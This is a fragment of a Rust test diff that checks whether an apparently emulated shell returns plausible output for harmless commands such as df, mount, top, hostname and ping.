+            ("df", "Filesystem"),
+            ("mount", "ext4"),
+            ("top", "load average"),
+            ("hostname", "svr04"),
+            ("ping -c 2 1.2.3.4", "packets transmitted"),
+        ] {
+            let out = s.execute(cmd).rendered;
+            assert!(out.contains(needle), "{cmd} output missing {needle}: {out}");
+        }
+    }
+}
